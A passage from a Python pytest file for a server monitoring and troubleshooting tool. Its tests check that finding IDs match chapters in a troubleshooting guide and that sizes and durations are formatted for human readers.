    assert [finding.subject for finding in left] == ["shop", "shop.example.com", "nginx", "/"]


def test_every_finding_has_its_chapter():
    source = "".join(path.read_text() for path in (ROOT / "roles/monitoring/files/troubleshoot").rglob("judge_*.py"))
    ids = set(re.findall(r'(?:warning|critical|make)\(\s*"([a-z0-9-]+)"', source)) | {"timer-failed", "unit-failed"}
    chapters = set(re.findall(r"^### ([a-z0-9-]+)$", (ROOT / "docs/troubleshooting.md").read_text(), re.MULTILINE))
    assert ids == chapters and len(ids) >= 45


def test_every_finding_was_tried():
    chapters = set(re.findall(r"^### ([a-z0-9-]+)$", (ROOT / "docs/troubleshooting.md").read_text(), re.MULTILINE))
    assert {name for _change, name in FAULTS} == chapters


@pytest.mark.parametrize("count, wanted", [(0, "0 B"), (1536, "1.5 KiB"), (50 << 20, "50 MiB"), (3 << 40, "3.0 TiB")])
def test_sizes_are_for_people(count, wanted):
    assert size(count) == wanted


@pytest.mark.parametrize(
    "seconds, wanted", [(0, "0 s"), (119, "119 s"), (600, "10 min"), (86400, "24 h"), (900_000, "10 d")]
)
def test_durations_are_for_people(seconds, wanted):
    assert duration(seconds) == wanted
